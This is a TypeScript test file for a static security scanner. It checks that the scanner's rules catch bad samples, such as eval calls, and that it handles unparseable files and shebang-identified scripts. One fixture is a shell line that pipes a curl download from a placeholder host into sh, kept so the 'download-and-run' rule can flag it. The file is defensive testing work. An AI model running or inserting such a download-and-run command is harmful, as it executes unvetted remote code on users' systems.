import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { findInLines } from '../../../../src/execution/gates/static/find-in-lines.ts';
import { findInSyntax } from '../../../../src/execution/gates/static/find-in-syntax.ts';
import { findWeaknesses } from '../../../../src/execution/gates/static/find-weaknesses.ts';
import {
  isSyntaxRule,
  readStaticRules,
  type StaticRule,
} from '../../../../src/execution/gates/static/static-rule.ts';

const rules = readStaticRules();
const extensions: Record<string, string> = {
  ...{ python: 'py', go: 'go', rust: 'rs', java: 'java', ruby: 'rb', php: 'php', c: 'c', shell: 'sh' },
  ...{
    docker: 'dockerfile',
    make: 'mk',
    yaml: 'yml',
    json: 'json',
    terraform: 'tf',
    any: 'txt',
    'any-script': 'sh',
  },
};

function found(rule: StaticRule, text: string): number {
  const numbers = text.split('\n').map((_, index) => index + 1);
  if (isSyntaxRule(rule))
    return Math.max(
      ...['a.js', 'a.ts', 'a.tsx'].map((path) => findInSyntax([rule], { path, text, added: numbers }).length),
    );
  const path = `a.${extensions[rule.languages[0] ?? 'any']}`;
  return findInLines([rule], { path, text, lineNumbers: numbers }).length;
}

describe('the static security rules', () => {
  it('have ids of their own', () => {
    assert.equal(new Set(rules.map(({ id }) => id)).size, rules.length);
    assert.ok(rules.length >= 60);
  });

  for (const rule of rules) {
    it(`${rule.id} finds its bad samples and none of its good ones`, () => {
      for (const text of rule.bad) assert.ok(found(rule, text) > 0, text);
      for (const text of rule.good) assert.equal(found(rule, text), 0, text);
    });
  }
});

describe('findWeaknesses', () => {
  const text = 'eval(old);\nconst a = 1;\nrun(\n  eval(fresh),\n);\n';

  it('reports only what the change adds, with place and remedy', async () => {
    const findings = await findWeaknesses(
      [{ path: 'src/a.ts', text: '  eval(fresh),', lineNumbers: [4] }],
      () => text,
    );
    assert.deepEqual(
      findings.map(({ code, severity, path, line }) => ({ code, severity, path, line })),
      [{ code: 'js-eval', severity: 'high', path: 'src/a.ts', line: 4 }],
    );
    assert.match(findings[0]?.fix ?? '', /JSON\.parse/);
  });

  it('survives a file that brings the parser down, says so, and reads the others', async () => {
    const deep = '{a:'.repeat(100_000);
    const files: Record<string, string> = { 'deep.ts': deep, 'plain.ts': 'eval(x);' };
    const findings = await findWeaknesses(
      Object.entries(files).map(([path, each]) => ({ path, text: each, lineNumbers: [1] })),
      (path) => files[path],
    );
    assert.deepEqual(
      findings.map(({ code, path }) => `${code} ${path}`),
      ['unreadable-source deep.ts', 'js-eval plain.ts'],
    );
  });

  it('reads scripts without an extension by the program that their first line names', async () => {
    const findings = await findWeaknesses(
      [{ path: 'bin/install', text: '#!/bin/sh\ncurl -s https://x.example | sh', lineNumbers: [1, 2] }],
      () => undefined,
    );
    assert.deepEqual(
      findings.map(({ code, line }) => [code, line]),
      [['download-and-run', 2]],
    );
  });
});
